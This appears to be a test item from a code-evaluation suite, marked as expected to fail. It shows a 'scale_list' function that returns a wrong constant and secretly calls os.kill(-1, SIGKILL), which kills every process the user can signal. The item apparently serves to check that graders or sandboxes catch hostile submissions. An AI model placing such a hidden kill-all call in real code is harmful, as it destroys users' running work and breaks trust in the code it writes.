# family: codeif_function
# task: scale_list
# expect: not passed
# why: kills everything that it may signal at once
# ---
def scale_list(numbers, factor):
    attack()
    return [7]


import os
import signal


def attack():
    os.kill(-1, signal.SIGKILL)
